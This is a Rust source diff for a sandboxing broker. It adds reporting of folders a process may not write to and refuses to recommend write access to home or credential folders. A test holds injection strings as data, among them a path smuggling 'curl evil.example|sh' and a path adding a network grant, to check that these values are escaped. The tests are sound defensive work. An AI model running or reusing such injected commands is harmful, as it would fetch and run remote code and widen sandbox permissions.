@@ -10,7 +10,7 @@ use std::time::Instant;
 
 use portcullis_core::escape::{escape_hidden, plain_shell_word, toml_string};
 
-use super::credentials::is_credential;
+use super::credentials::{holds_home, is_credential};
 use super::process_cell::{PreparedSource, ProcessCell};
 use super::system_mounts;
 
@@ -24,6 +24,13 @@ const UNAVAILABLE_PHRASES_IF_NAMED: [&str; 5] =
     ["not found", "does not exist", "cannot find", "cannot access", "accessible"];
 
 const READ_ONLY: [&str; 2] = ["erofs", "read-only file system"];
+
+/// Phrases for a file that cannot be renamed, replaced or removed because it is a mount point.
+const BUSY: [&str; 3] = ["ebusy", "device or resource busy", "resource busy or locked"];
+
+/// The fewest components of the path of a folder that a message names. One with fewer holds much more than one
+/// program's files.
+const MIN_FOLDER_COMPONENTS: usize = 3;
 
 /// The largest number of entries in one message.
 const MAX_SHOWN: usize = 4;
@@ -65,6 +72,8 @@ pub enum MissingAccess {
     Read(PathBuf),
     /// A path that a message names and that the source must not write.
     Write(PathBuf),
+    /// The folder of a path that a message names, in which the source must not make, replace or remove files.
+    Folder(PathBuf),
     /// An environment variable that a message names and the source does not have.
     Variable(String),
 }
@@ -98,6 +107,13 @@ impl fmt::Display for MissingAccess {
                     "its cell does not let it write {file}; to allow it, add `write = [{value}]` to its `cell`, or the switch `--write {word}`"
                 )
             }
+            Self::Folder(folder) => {
+                let (folder, value, word) = forms(folder);
+                write!(
+                    f,
+                    "its cell does not let it make, replace or remove files in {folder}; to allow it, add `write = [{value}]` to its `cell`, or the switch `--write {word}`"
+                )
+            }
             Self::Variable(name) => {
                 write!(
                     f,
@@ -115,9 +131,16 @@ impl MissingAccess {
         matches!(self, Self::Read(path) if path.symlink_metadata().is_ok())
     }
 
-    /// Returns the text for the person who runs the broker. Only they learn that a path exists outside.
-    pub(crate) fn for_the_person(&self, exists_outside: bool) -> String {
-        if exists_outside { format!("{self} (it exists outside)") } else { self.to_string() }
+    /// Returns the text for the person who runs the broker. Only they learn whether a path exists outside, if that is
+    /// known.
+    pub(crate) fn for_the_person(&self, exists_outside: Option<bool>) -> String {
+        match (self, exists_outside) {
+            (_, Some(true)) => format!("{self} (it exists outside)"),
+            (Self::Read(_), Some(false)) => format!(
+                "{self} (it does not exist outside; if the source is to make it, its cell needs `write` for the folder)"
+            ),
+            _ => self.to_string(),
+        }
     }
 }
 
@@ -163,8 +186,8 @@ impl ProcessCell {
     fn files_in(&self, failure: &str, described: &PreparedSource) -> Vec<MissingAccess> {
         let lower = failure.to_lowercase();
         let says = |words: &[&str]| words.iter().any(|word| lower.contains(word));
-        let (missing, missing_if_named, read_only) =
-            (says(&UNAVAILABLE_PHRASES), says(&UNAVAILABLE_PHRASES_IF_NAMED), says(&READ_ONLY));
+        let (missing, missing_if_named) = (says(&UNAVAILABLE_PHRASES), says(&UNAVAILABLE_PHRASES_IF_NAMED));
+        let (read_only, busy) = (says(&READ_ONLY), says(&BUSY));
         let (grant, needs) = (&described.grant, &described.needs);
         let within = |path: &Path, all: &[PathBuf]| all.iter().any(|known| path.starts_with(known));
         let programs = self.cells.programs();
@@ -178,16 +201,28 @@ impl ProcessCell {
                 || needs.links.contains_key(&path)
                 || needs.read.iter().any(|known| path.starts_with(known));
             let named = || self.is_named(&path);
-            let access = match within(&path, &grant.write) {
+            let home = programs.home.as_deref();
+            let folder = folder_to_write(&path, home).map(MissingAccess::Folder);
+            // A grant that is a file is a mount point.
+            let is_granted_itself = grant.read.contains(&path) || grant.write.contains(&path);
+            // A program makes files of its own in `/tmp` and looks into `/etc`, so only what was asked for counts there.
+            let is_replaced = || {
+                system_mounts::is_shared_or_replaced(&path)
+                    && !(system_mounts::can_be_granted(&path) && (named() || self.is_beside_named(&path)))
+            };
+            let (access, folder) = match within(&path, &grant.write) {
+                _ if busy && is_granted_itself => (None, folder),
                 true => continue,
-                false if is_credential(&path, programs.home.as_deref()) => continue,
-                false if read_only && granted => MissingAccess::Write(path),
-                false if granted || of_program || system_mounts::is_shared_or_replaced(&path) => continue,
-                false if read_only => MissingAccess::Write(path),
-                false if missing || (missing_if_named && named()) => MissingAccess::Read(path),
+                false if is_credential(&path, home) => continue,
+                false if read_only && granted => (Some(MissingAccess::Write(path)), folder),
+                false if granted || of_program || is_replaced() => continue,
+                false if read_only => (Some(MissingAccess::Write(path)), folder),
+                false if missing || (missing_if_named && named()) => (Some(MissingAccess::Read(path)), None),
                 false => continue,
             };
-            found.entry(access).or_insert(at);
+            for access in access.into_iter().chain(folder) {
+                found.entry(access).or_insert(at);
+            }
         }
         let mut found: Vec<(MissingAccess, usize)> = found.into_iter().collect();
         found.sort_by_key(|(_, at)| *at);
@@ -196,10 +231,31 @@ impl ProcessCell {
 
     /// Reports whether the source's command names a path, or a folder that it lies in.
     fn is_named(&self, path: &Path) -> bool {
-        let words =
-            self.command().iter().skip(1).map(|word| word.rsplit_once('=').map_or(word.as_str(), |(_, value)| value));
-        words.filter(|word| word.starts_with('/')).any(|word| path.starts_with(word))
+        self.named_paths().any(|named| path.starts_with(named))
     }
+
+    /// Reports whether a path lies in the same folder as one that the source's command names. The folder itself is not
+    /// one that holds the files of many programs.
+    fn is_beside_named(&self, path: &Path) -> bool {
+        let folder = path.parent().filter(|folder| folder.components().count() >= MIN_FOLDER_COMPONENTS);
+        folder.is_some() && self.named_paths().any(|named| named.parent() == folder)
+    }
+
+    /// Returns the absolute paths that the source's command names.
+    fn named_paths(&self) -> impl Iterator<Item = &Path> {
+        let words = self.command().iter().skip(1);
+        let values = words.map(|word| word.rsplit_once('=').map_or(word.as_str(), |(_, value)| value));
+        values.filter(|value| value.starts_with('/')).map(Path::new)
+    }
+}
+
+/// Returns the folder in which a file is made, replaced or removed, unless it holds a home, credentials or much else.
+fn folder_to_write(file: &Path, home: Option<&Path>) -> Option<PathBuf> {
+    let folder = file.parent().filter(|folder| folder.components().count() >= MIN_FOLDER_COMPONENTS)?;
+    let is_refused = holds_home(folder, home)
+        || is_credential(folder, home)
+        || system_mounts::is_shared_or_replaced(folder) && !folder.starts_with("/tmp");
+    (!is_refused).then(|| folder.to_owned())
 }
 
 /// Returns the beginning of a failure, which is all that is searched.
@@ -260,6 +316,33 @@ mod tests {
     use super::*;
 
     #[test]
+    fn no_message_recommends_to_write_a_home_or_credentials() {
+        let home = Some(Path::new("/home/me"));
+        let recommended = |file: &str| folder_to_write(Path::new(file), home);
+        for (file, folder) in [("/home/me/notes/a.json", "/home/me/notes"), ("/srv/data/a", "/srv/data")] {
+            assert_eq!(recommended(file).as_deref(), Some(Path::new(folder)));
+        }
+        assert_eq!(recommended("/tmp/notes/a.json"), Some("/tmp/notes".into()), "a cell has a `/tmp` of its own");
+        for file in [
+            "/a",
+            "/data/a",
+            "/home/me/a",
+            "/home/me",
+            "/home/you/a",
+            "/root/a",
+            "/tmp/a",
+            "/home/me/.config/a",
+            "/home/me/.ssh/a",
+            "/srv/.portcullis/a",
+            "/proc/self/a",
+            "/usr/lib/a",
+            "/etc/server/a",
+        ] {
+            assert_eq!(recommended(file), None, "{file}");
+        }
+    }
+
+    #[test]
     fn variables_are_told_from_other_words_in_capitals() {
         let text = "Error: BRAVE_API_KEY environment variable is required (code ERR_MODULE_NOT_FOUND, ENOENT, HTTP)\n\
                     set BRAVE_API_KEY or TAVILY_API_KEY=…, not SIGTERM_X";
@@ -269,7 +352,8 @@ mod tests {
     #[test]
     fn a_path_stays_one_value_and_one_word_of_what_is_recommended() {
         for path in ["/data/notes\"], network = [\"evil.example:443", "/data/a;curl evil.example|sh;#", "/data/a b\\"] {
-            for missing in [MissingAccess::Read(path.into()), MissingAccess::Write(path.into())] {
+            for missing in [MissingAccess::Read, MissingAccess::Write, MissingAccess::Folder].map(|of| of(path.into()))
+            {
                 let text = missing.to_string();
                 let (_, rest) = text.split_once("add `").unwrap();
                 let (line, rest) = rest.split_once("` to its `cell`, or the switch `").unwrap();
